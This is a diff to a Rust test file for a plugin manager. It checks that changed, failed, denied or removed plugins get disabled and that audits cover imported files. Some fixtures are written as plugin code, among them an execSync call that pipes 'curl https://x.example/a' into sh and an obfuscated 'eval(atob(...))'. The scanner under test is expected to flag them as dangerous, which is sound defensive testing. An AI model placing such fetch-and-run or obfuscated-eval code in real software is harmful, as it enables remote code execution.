@@ -174,13 +174,143 @@ fn dropped_in_directory() {
     let stopped = session.send("info broken");
     assert_eq!(text(&stopped["code"]), "manifest/syntax", "{stopped}");
     assert_eq!(text(&session.send("info borken")["code"]), "session/plugin");
-    // The enabled plugin keeps its checked contents, and says so.
-    home.write("plugins/word-count/index.js", "export const a = 2;\n");
-    let stale = session.send("info word-count");
-    assert_eq!((text(&stale["state"]), &stale["flags"]), ("enabled", &json!(["stale"])));
-    session.send("disable word-count");
-    assert_eq!(session.send("info word-count")["state"], json!("discovered"));
     assert_eq!(session.end(), 0);
+}
+
+/// Returns the row of a plugin in the answer to `list`.
+fn row(session: &mut Session, id: &str) -> Value {
+    let listed = session.send("list");
+    let rows = listed["plugins"].as_array().unwrap();
+    rows.iter().find(|row| row["id"] == json!(id)).cloned().unwrap_or_default()
+}
+
+#[test]
+fn an_enabled_plugin_that_changes_is_disabled() {
+    let shell = format!(
+        "{SCHEMA}import {{ execSync }} from 'node:child_process';\nexecSync('curl https://x.example/a | sh');\n"
+    );
+    for (file, contents, code) in [
+        ("index.js", "export const a = 2;\n", "lifecycle/other-bytes"),
+        ("index.js", &*format!("{SCHEMA}eval(atob(process.argv[2]));\n"), "scan/danger"),
+        ("index.js", &*shell, "scan/danger"),
+        ("plugin.json", "{", "manifest/syntax"),
+    ] {
+        let home = word_count();
+        plugin(&home, "letters", "", SCHEMA);
+        let mut session = Session::start(&home, &["--yes"]);
+        session.send("enable letters");
+        assert_eq!(session.send("enable word-count")["state"], json!("enabled"));
+        session.send("dirty");
+        let before = row(&mut session, "word-count");
+        assert_eq!((text(&before["state"]), before.get("flags")), ("enabled", None));
+        home.write(&format!("plugins/word-count/{file}"), contents);
+        let dirty = session.send("dirty");
+        assert_eq!(dirty["dirty"], json!({"sandbox": true, "session": true}), "{dirty}");
+        assert!(text(&dirty["message"]).starts_with("disabled `word-count`: "), "{dirty}");
+        let after = row(&mut session, "word-count");
+        if file == "index.js" {
+            assert_eq!((text(&after["state"]), &after["flags"]), ("discovered", &json!(["stale"])));
+            assert_eq!(text(&after["code"]), code, "{after}");
+        }
+        let registered = session.send("register word-count word-count");
+        assert_eq!((text(&registered["code"]), registered.get("admitted")), (code, None), "{registered}");
+        assert!(!text(&registered["help"]).is_empty());
+        // The other plugin did not change.
+        assert_eq!(session.send("register letters letters")["ok"], json!(true));
+        assert_eq!(session.send("dirty")["dirty"], json!({"sandbox": false, "session": false}));
+        assert_eq!(session.end(), 0);
+    }
+}
+
+#[test]
+fn a_plugin_that_is_gone_or_failed_or_denied_is_disabled() {
+    let home = word_count();
+    let mut session = Session::start(&home, &["--yes"]);
+    session.send("enable word-count maxLength=9");
+    assert_eq!(text(&session.send("failed word-count")["code"]), "session/command");
+    let failed = session.send("failed word-count no createHostFunctions");
+    assert_eq!((&failed["ok"], text(&failed["state"])), (&json!(true), "disabled"), "{failed}");
+    let reason = row(&mut session, "word-count");
+    assert_eq!(
+        (&reason["flags"], text(&reason["code"]), text(&reason["message"])),
+        (&json!(["failed"]), "lifecycle/failed", "no createHostFunctions")
+    );
+    assert_eq!(text(&session.send("failed word-count again")["code"]), "lifecycle/order");
+    // It is enabled again with the configuration that it had.
+    let again = session.send("enable word-count");
+    assert_eq!((&again["config"]["maxLength"]["value"], again.get("flags")), (&json!(9), None), "{again}");
+    assert_eq!(code(&home.run(&["deny", "plugins/word-count"])), 0);
+    let denied = row(&mut session, "word-count");
+    assert_eq!((&denied["flags"], text(&denied["code"])), (&json!(["refused"]), "policy/denied"), "{denied}");
+    assert_eq!(code(&home.run(&["undeny", "plugins/word-count"])), 0);
+    assert_eq!(session.send("enable word-count")["state"], json!("enabled"));
+    std::fs::remove_dir_all(home.path("plugins/word-count")).unwrap();
+    let gone = session.send("register word-count word-count");
+    assert_eq!(
+        (text(&gone["code"]), text(&gone["message"])),
+        ("lifecycle/other-bytes", "its directory is gone")
+    );
+    assert!(text(&session.send("list")["message"]).contains("disabled `word-count`"));
+    assert_eq!(session.end(), 0);
+}
+
+#[test]
+fn an_audit_covers_imported_files_outside() {
+    let home = Home::new();
+    plugin(&home, "imp", "", "import { n } from \"../shared/x.js\";\nexport const a = n;\n");
+    home.write("plugins/shared/x.js", "export const n = 1;\n");
+    home.write("plugins/shared/unused.txt", "1\n");
+    let mut session = Session::start(&home, &[]);
+    let digest = |session: &mut Session| text(&session.send("audit imp")["audit"]["digest"]).to_owned();
+    let old = digest(&mut session);
+    assert!(old.starts_with("sha256:"), "{old}");
+    home.write("plugins/shared/x.js", "export const n = 2;\n");
+    let stopped = session.send(&format!("enable imp audit={old}"));
+    assert_eq!((text(&stopped["code"]), outcomes(&stopped).len()), ("lifecycle/not-confirmed", 6));
+    let refused = session.send(&format!("approve imp {old}"));
+    assert_eq!((text(&refused["code"]), &refused["approved"]), ("approval/not-audited", &json!(false)));
+    let new = digest(&mut session);
+    assert_ne!(new, old);
+    assert_eq!(session.send(&format!("approve imp {new}"))["approved"], json!(true));
+    assert_eq!(session.send("enable imp")["state"], json!("enabled"));
+    // A change of the imported file disables it, too.
+    home.write("plugins/shared/x.js", "export const n = 3;\n");
+    assert_eq!(row(&mut session, "imp")["flags"], json!(["stale"]));
+    assert_eq!(session.end(), 0);
+}
+
+#[test]
+fn an_audit_shows_what_is_confirmed() {
+    let home = word_count();
+    plugin(&home, "evil", "", "eval(atob(process.argv[2]));\n");
+    let mut session = Session::start(&home, &[]);
+    let audit = &session.send("audit evil")["audit"];
+    let finding = &audit["findings"][0];
+    assert_eq!(
+        (text(&finding["severity"]), text(&finding["path"]), &finding["line"]),
+        ("danger", "index.js", &json!(1))
+    );
+    assert!(!text(&finding["rule"]).is_empty() && !text(&finding["message"]).is_empty(), "{finding}");
+    assert_eq!(session.send("audit word-count")["audit"]["findings"], json!([]));
+    let info = session.send("info evil");
+    assert_eq!(info["info"], json!({"version": "1.0.0", "description": "d", "modules": ["evil"]}), "{info}");
+    assert_eq!(info.get("text"), None);
+    assert!(text(&session.send("info word-count")["text"]).contains("maxLength (number)"));
+    assert_eq!(session.end(), 0);
+}
+
+#[test]
+fn damaged_approvals_end_the_session_at_its_start() {
+    let home = word_count();
+    home.write("config/plugins.approvals.toml", "version = [\n");
+    let output = home.run(&["session", "plugins", "--static"]);
+    assert_eq!(code(&output), 7);
+    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!((&answer["ok"], text(&answer["code"])), (&json!(false), "approval/store"), "{answer}");
+    assert!(text(&answer["help"]).contains("plugins.approvals.toml"), "{answer}");
+    // The pins are not the cause, and deleting them would not help.
+    let error = String::from_utf8(output.stderr).unwrap();
+    assert!(error.contains("plugins.approvals.toml") && !error.contains("forget --all"), "{error}");
 }
 
 #[test]
